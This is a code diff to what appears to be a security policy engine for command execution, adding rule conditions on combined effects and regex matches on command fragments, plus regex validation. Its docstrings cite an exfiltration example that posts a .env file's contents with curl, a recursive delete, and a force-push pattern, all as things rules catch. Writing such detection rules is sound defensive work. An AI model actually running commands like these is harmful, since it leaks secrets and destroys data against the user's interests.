@@ -72,6 +72,15 @@ class Rule(BaseModel):
     """For delete and permission effects on a directory: match when anything under it
     matches `paths` (so `rm -rf project` meets a rule protecting `project/config.yaml`)."""
 
+    with_effects: list[EffectKind] | None = None
+    """The call must also have an effect of one of these kinds (e.g. a secret `read` in
+    a call that also opens a `network` connection: `curl -d "$(cat .env)" host`)."""
+
+    via: list[str] | None = None
+    """Regular expressions, one of which must be found in the effect's `via` text (the
+    command fragment), e.g. `push.*--force.*main` on `exec` of `git`. For what effects
+    cannot express; prefer effect conditions."""
+
     hosts: list[str] | None = None
     """Globs on the effect's remote host."""
 
@@ -211,6 +220,15 @@ class Policy(BaseModel):
 
     @model_validator(mode="after")
     def _sets_exist(self) -> Policy:
+        for index, rule in enumerate(self.rules):
+            for pattern in rule.via or []:
+                try:
+                    re.compile(pattern)
+                except re.error as ex:
+                    raise ValueError(
+                        f"rules[{index}] ({rule.name}): via {pattern!r} is not a valid "
+                        f"regular expression: {ex}"
+                    ) from ex
         for index, rule in enumerate(self.rules):
             for field in ("paths", "sources"):
                 for item in getattr(rule, field) or []:
